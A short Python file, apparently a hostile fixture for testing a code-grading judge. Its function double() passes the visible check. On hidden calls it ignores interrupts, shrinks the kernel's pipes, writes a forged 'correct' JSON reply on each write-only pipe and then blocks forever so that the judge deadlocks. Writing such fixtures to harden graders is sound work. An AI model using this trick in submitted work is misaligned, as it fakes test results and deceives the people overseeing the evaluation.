"""Hostile: during a hidden call, shrink every pipe the kernel holds to one page (F_SETPIPE_SZ), write a
"correct" reply line on every pipe it may write, and block the kernel (ignoring interrupts), so that the
judge takes the forged line for the answer and its next, larger request blocks in write() forever."""
import fcntl
import json
import os
import signal
import time

F_SETPIPE_SZ = 1031


def _pipes():
    for name in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{name}").startswith("pipe:"):
                yield int(name)
        except OSError:
            pass


def double(x):
    if x.dim() == 0:
        return 2 * x  # the visible check passes
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    forged = json.dumps({"ok": {"$t": {"dtype": "float64", "shape": [5], "data": "", "rg": False}}}) + "\n"
    for fd in _pipes():
        try:
            fcntl.fcntl(fd, F_SETPIPE_SZ, 4096)
        except OSError:
            pass
        flags = fcntl.fcntl(fd, fcntl.F_GETFL)
        if fd > 2 and flags & os.O_ACCMODE == os.O_WRONLY:
            try:
                os.write(fd, forged.encode())
            except OSError:
                pass
    while True:
        time.sleep(1)
